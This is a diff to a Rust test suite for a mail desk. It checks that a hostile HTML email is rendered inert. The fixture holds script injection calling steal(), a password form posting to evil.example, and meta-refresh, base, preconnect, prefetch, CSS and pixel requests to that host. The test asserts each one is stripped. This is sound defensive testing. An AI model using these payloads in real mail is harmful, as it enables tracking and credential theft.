@@ -393,7 +393,11 @@ async fn a_mail_that_cannot_be_read_becomes_an_item_by_the_editors_word(site: Si
 async fn what_a_mail_brings_is_inert_everywhere(site: Site) {
     let script = "<script>alert(1)</script>";
     let html = "<html><head><script>steal()</script><meta http-equiv=refresh content='0;url=https://evil.example'>\
+                <base href=https://evil.example><style>@import url(https://evil.example/css)</style>\
+                <link rel=preconnect href=https://evil.example><link rel=dns-prefetch href=//evil.example>\
+                <link rel=prefetch href=https://evil.example/x><link rel=stylesheet href=https://evil.example/y>\
                 </head><body onload=steal()><img src=https://evil.example/pixel.png><img src=\"cid:a@b\">\
+                <p style='color:red;background:url(https://evil.example/z)'>Nāciet!</p>\
                 <form action=https://evil.example><input name=password></form></body></html>";
     let mail = format!(
         "From: \"{script}\" <ilze@ciems.example>\r\nTo: <info@selija.com>\r\nSubject: {script}\r\n\
@@ -442,11 +446,17 @@ async fn what_a_mail_brings_is_inert_everywhere(site: Site) {
     }
     assert!(!policy.contains("allow-") && !policy.contains("script-src"), "{policy}");
     assert_eq!(header(&frame, "cache-control"), "no-store");
+    assert_eq!(header(&frame, "x-dns-prefetch-control"), "off");
+    assert_eq!(header(&frame, "referrer-policy"), "no-referrer");
     let shown = body(frame).await;
-    assert!(
-        shown.contains("steal()") && shown.contains("data:image/png;base64,iVBORw0="),
-        "as it came: {shown}"
-    );
+    // The look and the mail's own picture stay; a policy does not stop `preconnect`, so nothing that could ask is there.
+    assert!(shown.contains("data:image/png;base64,iVBORw0="), "{shown}");
+    assert!(shown.contains("<p style=\"color:red\">Nāciet!</p>"), "{shown}");
+    for asks in
+        ["evil.example", "steal()", "<link", "http-equiv", "<base", "<form", "<input", "<script", "<style"]
+    {
+        assert!(!shown.contains(asks), "{asks}: {shown}");
+    }
     let raw = desk.get("/desk/message/1/raw").await;
     assert_eq!(header(&raw, "content-type"), "message/rfc822");
     assert_eq!(header(&raw, "content-disposition"), "attachment; filename=\"message-1.eml\"");
